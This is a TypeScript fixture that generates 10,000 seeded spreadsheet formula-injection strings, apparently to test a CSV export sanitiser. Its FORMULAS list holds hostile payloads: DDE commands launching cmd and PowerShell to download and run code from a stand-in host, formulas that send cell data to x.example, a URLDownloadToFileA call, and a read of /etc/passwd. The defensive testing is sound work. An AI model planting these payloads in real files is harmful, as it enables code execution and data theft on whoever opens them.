import { seeded } from "../vault/samples.ts";

/** What a spreadsheet takes for the beginning of a formula, and what only looks like it. */
const SIGNS = [
  "=",
  "+",
  "-",
  "@",
  "＝",
  "＋",
  "－",
  "＠",
  "﹦",
  "﹢",
  "﹣",
  "﹫",
  "−",
  "‐",
  "–",
  "⁼",
  "₌",
  "⁺",
  "₊",
  "⁻",
  "➕",
  "꓿",
  "᐀",
];

/** What Excel, LibreOffice and Google Sheets would run, fetch or send, behind a sign. */
const FORMULAS = [
  "1+1",
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget 0r.example/p)'!A0",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'HYPERLINK("https://x.example/?"&A1,"Open me")',
  'HYPERLINK("https://x.example/?"&A1;"Open me")',
  'IMPORTXML(CONCAT("https://x.example/?v=",CONCATENATE(A2:E2)),"//a")',
  'IMPORTDATA("https://x.example/"&B1)',
  'IMPORTHTML("https://x.example","table",1)',
  'IMPORTFEED("https://x.example")',
  'IMPORTRANGE("1x","A1:Z9")',
  'IMAGE("https://x.example/"&A1)',
  'WEBSERVICE("https://x.example/?"&A1)',
  'FILTERXML(WEBSERVICE("https://x.example"),"//a")',
  'RTD("mycomaddin.progid",,"LR_IBM")',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://x.example","c:\\a.exe",0,0)',
  'REGISTER.ID("kernel32","WinExec")',
  'EXEC("calc.exe")',
  "'file:///etc/passwd'#$passwd.A1",
  "SUM(A1:A9)",
  'INDIRECT("A"&1)',
  "LET(x,1,x)",
  "LAMBDA(x,x)(1)",
  "{1,2}",
  "A1",
  "-2+3",
  "49 170 1234567",
  "1",
  "0.5",
  "1E9",
];

/** Marks that nobody sees, white space of every kind, controls, and what is no character. */
const UNSEEN = [
  ...Array.from(
    "\t\r\n\v\f \u0000\u0001\u0007\u001b\u007f\u0085\u00a0\u00ad\u034f\u061c\u115f\u1680\u180e\u2000\u2003\u2009\u200b\u200c\u200d\u200e\u200f",
  ),
  ...Array.from(
    "\u2028\u2029\u202a\u202b\u202d\u202e\u202f\u205f\u2060\u2061\u2066\u2067\u2069\u206a\u3000\u3164\ufe0f\ufeff\uffa0\ufff9",
  ),
  "\ud800",
  "\udc00",
  "\udbff\udbff",
  "\r\n",
  "\u{e0001}",
  "\u{e0020}",
];

/** What parts cells somewhere, and what closes and opens them. */
const PARTING = [
  ",",
  ";",
  "\t",
  "|",
  "\n",
  "\r\n",
  "\r",
  '"',
  '""',
  '","',
  '";"',
  '"\t"',
  "'",
  "''",
  "\\",
  "^",
  ":",
  "\u001f",
  '"\n',
  "sep=;\n",
];

const WORDS = [
  "Ada",
  "Zoë",
  "李小龙",
  "أحمد",
  "🙂",
  "O'Neil",
  "Jean-Luc",
  "x".repeat(40),
  "100%",
  "5",
  "TRUE",
  "#REF!",
  "1/2",
  "2026-11-22",
  "0x1F",
  "{}",
];

export const HOSTILE_NAMES = 10_000;

/**
 * Ten thousand names that want to be run when a table is opened: every formula behind every sign, each hidden behind what is
 * not seen, moved to another cell by what parts cells there, and mixtures of all of these, some very long. The same each time.
 */
export function hostileNames(): readonly string[] {
  const random = seeded(5);
  const pick = (all: readonly string[]): string => all[Math.floor(random() * all.length)] ?? "";
  const sign = (): string => pick(random() < 0.5 ? SIGNS : ["=", "=", "+", "-", "@"]);
  const attack = (): string => sign() + pick(FORMULAS);
  const unseen = (): string => Array.from({ length: Math.floor(random() * 3) }, () => pick(UNSEEN)).join("");
  const kinds: readonly (() => string)[] = [
    () => unseen() + attack(),
    () => pick(UNSEEN) + attack(),
    () => pick(WORDS) + pick(PARTING) + unseen() + attack(),
    () => pick(PARTING) + pick(PARTING) + unseen() + attack(),
    () => pick(WORDS) + unseen() + pick(PARTING) + unseen() + attack() + pick(PARTING) + attack(),
    () =>
      Array.from({ length: 1 + Math.floor(random() * 12) }, () =>
        pick([pick(SIGNS), pick(UNSEEN), pick(PARTING), pick(WORDS), pick(FORMULAS)]),
      ).join(""),
    () => sign().repeat(1 + Math.floor(random() * 4)) + pick(UNSEEN) + pick(FORMULAS),
  ];
  const plain = SIGNS.flatMap((each) => FORMULAS.map((formula) => each + formula));
  const hidden = UNSEEN.flatMap((mark) => SIGNS.map((each) => `${mark}${each}1+1`));
  const moved = PARTING.flatMap((part) =>
    SIGNS.flatMap((each) => [`Ada${part}${each}1+1`, `${part}${part}${each}1+1${part}`]),
  );
  const long = SIGNS.map((each) => `${pick(UNSEEN)}${each}${"1+".repeat(20_000)}1`);
  const names = new Set([...plain, ...hidden, ...moved, ...long]);
  while (names.size < HOSTILE_NAMES) names.add(kinds[Math.floor(random() * kinds.length)]?.() ?? "");
  return [...names];
}
